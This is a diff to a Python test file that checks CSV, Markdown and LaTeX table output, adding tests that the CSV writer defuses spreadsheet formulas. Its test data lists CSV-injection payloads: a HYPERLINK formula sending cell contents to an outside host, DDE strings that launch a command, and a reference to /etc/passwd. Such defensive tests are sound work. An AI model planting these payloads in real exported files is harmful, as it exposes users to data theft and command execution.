@@ -1,5 +1,6 @@
 """Text of users, models and judges in printed tables: it stays text, in Markdown and in LaTeX that compiles."""
 
+import csv
 import re
 from pathlib import Path
 
@@ -7,7 +8,7 @@ import pandas as pd
 import pytest
 from support.latex import typeset, with_latex
 
-from superficial.artifacts.markup import latex_text, markdown_text, minus
+from superficial.artifacts.markup import latex_text, markdown_text, minus, visible
 from superficial.artifacts.printed import latex_table, latex_title, markdown_table, write_forms
 from superficial.artifacts.table import read_table
 
@@ -96,10 +97,28 @@ def test_numbers_wear_a_minus_sign():
     assert minus("-0.5 [-1, 2]") == "−0.5 [−1, 2]"
 
 
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "='file:///etc/passwd'#$passwd.A1", "\t=A(1)", "＝ＳＵＭ（1）", "- one\n- two (of three)",
+]  # fmt: skip
+NUMBERS = ["-1", "+1.5e-3", "= 2", "-", "- a list", "@name", "a=b(c)", "'quoted' (twice)"]
+
+
 def test_csv_gives_hostile_text_back(tmp_path: Path):
-    texts = [text for text in HOSTILE if text and "\ud800" not in text]
-    write_forms(pd.DataFrame({"title": texts}), {}, [tmp_path / "x.csv"])
-    assert read_table(tmp_path / "x.csv")["title"].tolist() == texts
+    """But for characters that a terminal would obey: these are spelled out."""
+    texts = [*HOSTILE, *FORMULAS, *NUMBERS, *(f"'{one}" for one in FORMULAS)]
+    texts = [text for text in texts if text and "\ud800" not in text]
+    write_forms(pd.DataFrame({"title": texts, "n": 1.5}), {}, [tmp_path / "x.csv"])
+    assert read_table(tmp_path / "x.csv")["title"].tolist() == [visible(text) for text in texts]
+    assert not re.search(b"[\\x00-\\x08\\x0b-\\x1f\\x7f]", (tmp_path / "x.csv").read_bytes())
+
+
+def test_a_spreadsheet_computes_no_cell(tmp_path: Path):
+    """What a spreadsheet sees of each cell: it begins with an apostrophe, or is as harmless as it was."""
+    write_forms(pd.DataFrame({"title": [*FORMULAS, *NUMBERS]}), {}, [tmp_path / "x.csv"])
+    with open(tmp_path / "x.csv", encoding="utf-8", newline="") as file:
+        cells = [row["title"] for row in csv.DictReader(file)]
+    assert cells == [*(f"'{one}" for one in FORMULAS), *NUMBERS]
 
 
 @with_latex
